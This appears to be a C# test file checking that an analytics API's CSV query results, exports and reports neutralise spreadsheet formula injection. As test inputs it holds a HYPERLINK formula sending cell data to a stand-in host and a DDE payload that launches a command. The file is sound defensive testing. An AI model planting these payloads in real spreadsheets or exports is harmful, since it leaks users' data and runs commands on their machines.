using System.Net.Http.Json;
using System.Text.Json;
using AnalyticsCenter.TestKit;

namespace AnalyticsCenter.Web.Tests;

/// <summary>
/// Every CSV the API writes (query results, table exports, reports) opens in a spreadsheet as text, not as the formulas
/// a customer's message can hold; JSON keeps the text exact.
/// </summary>
public sealed class CsvFormulaApiTests : IAsyncLifetime
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
    private const string HyperlinkField = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"open\"\")\"";
    private const string Dde = "@SUM(1+1)*cmd|' /C calc'!A0";

    private readonly TestStore _store = new();
    private TestApi _api = null!;
    private HttpClient _client = null!;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        var acme = new EventLines("acme");
        await _store.IngestAsync(acme.Inbound("10:00:00", Hyperlink, conversation: ("c1", 1)), acme.Node("10:01:00", Dde));
        await _store.RefreshAsync("18:00:00");
        _api = await TestApi.StartAsync(_store);
        _client = _api.Client(await _api.KeyAsync("acme"));
    }

    [Fact]
    public async Task A_csv_query_result_neutralises_text_and_keeps_negative_numbers()
    {
        var response = await _client.PostAsJsonAsync("/api/v1/query",
            new { sql = "SELECT first_message, -1 AS n, -2.5 AS d, '-3' AS t FROM sessions", format = "csv" }, Ct);

        Assert.Equal($"first_message,n,d,t\r\n{HyperlinkField},-1,-2.5,\"'-3\"\r\n", await response.Content.ReadAsStringAsync(Ct));
    }

    [Fact]
    public async Task A_csv_export_neutralises_text()
    {
        var csv = await _client.GetStringAsync("/api/v1/exports/sessions.csv", Ct);

        Assert.Contains("," + HyperlinkField + ",", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'" + Dde + "\",", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",@", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_csv_report_neutralises_text()
    {
        var csv = await _client.GetStringAsync("/api/v1/reports/drop-off?format=csv", Ct);

        Assert.Equal($"step,conversation_id,conversation_version,last_node_id,sessions,share,reached,reached_share\r\n1,c1,1,\"'{Dde}\",1,1,1,1\r\n", csv);
    }

    [Fact]
    public async Task Json_keeps_the_text_exact()
    {
        var rows = await _client.PostAsJsonAsync("/api/v1/query", new { sql = "SELECT first_message FROM sessions" }, Ct);

        Assert.Equal(Hyperlink, (await rows.Content.ReadFromJsonAsync<JsonElement>(Ct))[0].GetProperty("first_message").GetString());
    }

    public ValueTask DisposeAsync() => _api.DisposeAsync();
}
